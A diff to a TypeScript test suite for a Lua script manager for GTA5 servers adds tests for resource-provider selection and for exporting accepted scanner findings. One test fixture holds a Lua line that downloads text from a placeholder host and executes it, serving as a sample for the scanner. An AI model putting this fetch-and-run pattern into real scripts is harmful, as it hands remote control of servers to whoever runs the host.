@@ -11,6 +11,7 @@ const author = await app.createUser('scripts.upload', 'scripts.download')
 
 const outdatedServer = (...files: [second: Record<string, string>, first?: Record<string, string>]) =>
   createOutdatedServer(app, author, ...files)
+const publishQuay = async (name: string) => publishScript(app, author, name, resourceFiles('quay_lib'))
 
 test('outdated shows the changelog and exits with 1; update installs it and keeps nothing back', async () => {
   const { server, id, file } = await outdatedServer({ 'new.lua': "print('new')\n" })
@@ -78,7 +79,7 @@ test('a script that comes along with a new version is shown, and its capabilitie
   })
   expect(await server.run('update', '--yes')).toMatchObject({
     code: 3,
-    stderr: expect.stringContaining('Courier can do more than before'),
+    stderr: expect.stringContaining('Courier would be new on this server. --yes does not accept this'),
   })
   expect(await server.read('scripthaven.lock')).toBe(before)
   expect(await server.run('update', '--yes', '--accept-capabilities')).toMatchObject({ code: 0 })
@@ -202,6 +203,73 @@ test('list, why, export and remove know what needs what', async () => {
   expect(await readdir(server.installed())).toEqual([])
   expect(JSON.parse(await server.read('scripthaven.lock')).scripts).toEqual({})
   expect(await server.run('add', String(library.id), '--yes')).toMatchObject({ code: 0 })
+})
+
+test('update and sync ask which new script provides a resource, and write it down', async () => {
+  const [first, second] = [await publishQuay('Quay one'), await publishQuay('Quay two')]
+  const manifest = "fx_version 'cerulean'\ngame 'gta5'\nserver_script 'server.lua'\ndependency 'quay_lib'\n"
+  const { server, id } = await outdatedServer({ 'fxmanifest.lua': manifest })
+  const before = await server.read('scripthaven.json')
+  const providers = async () => JSON.parse(await server.read('scripthaven.json')).providers
+
+  expect(await server.run('update')).toMatchObject({
+    code: 2,
+    stdout: expect.stringMatching(
+      /Several scripts provide quay_lib:\n {2}1\) Quay one .*\n {2}2\) Quay two /,
+    ),
+    stderr: expect.stringContaining('Use --yes to take the most downloaded one'),
+  })
+  expect(await server.read('scripthaven.json')).toBe(before)
+  expect(await server.run('update', '--yes')).toMatchObject({
+    code: 0,
+    stdout: expect.stringMatching(/Quay one by .* is taken\. Name another one in "providers"/),
+  })
+  expect(await providers()).toEqual({ quay_lib: first.id })
+
+  const project = JSON.parse(before)
+  await server.write('scripthaven.json', JSON.stringify({ ...project, providers: { quay_lib: second.id } }))
+  await rm(server.path('scripthaven.lock'))
+  expect(await server.run('sync')).toMatchObject({ code: 0 })
+  expect(Object.keys(JSON.parse(await server.read('scripthaven.lock')).scripts)).toEqual(
+    [second.id, id].map(String),
+  )
+  await server.write('scripthaven.json', before)
+  await rm(server.path('scripthaven.lock'))
+  expect(await server.run('sync')).toMatchObject({
+    code: 0,
+    stdout: expect.stringContaining('Quay one by'),
+  })
+  expect(await providers()).toEqual({ quay_lib: first.id })
+})
+
+test('export names the findings that the owner and moderators accepted', async () => {
+  const { server, id } = await outdatedServer(
+    {},
+    { 'server.lua': "PerformHttpRequest('https://a.example', function(_, text)\n  load(text)()\nend)\n" },
+  )
+  const { versionId } = JSON.parse(await server.read('scripthaven.lock')).scripts[id]
+  const { findings } = (await app.request(null, 'GET', `/api/versions/${versionId}/report`)).body
+  const [{ rule, path, fileSha256 }] = findings
+  const verdict = { verdict: 'accepted', note: 'The host is the author himself' }
+  const owner = await app.createOwner()
+  await app.request(owner, 'PUT', `/api/finding-verdicts/${rule}/${fileSha256}`, verdict)
+  const project = JSON.parse(await server.read('scripthaven.json'))
+  await server.write(
+    'scripthaven.json',
+    JSON.stringify({ ...project, allowFindings: { [id]: ['reads-players'] } }),
+  )
+
+  const [component] = JSON.parse((await server.run('export')).stdout).components
+  const csv = await server.run('export', '--format', 'csv')
+
+  const accepted = expect.stringContaining(`${rule} in ${path}: The host is the author himself (20`)
+  expect(component.properties).toEqual(
+    expect.arrayContaining([
+      { name: 'scripthaven:findingAcceptedByOwner', value: 'reads-players' },
+      { name: 'scripthaven:findingAcceptedByModerator', value: accepted },
+    ]),
+  )
+  expect(csv.stdout).toContain(`reads-players,${rule} in ${path}: The host is the author himself (20`)
 })
 
 test('init --from-disk recognises installed resources with changed files, and sync takes the changes over', async () => {
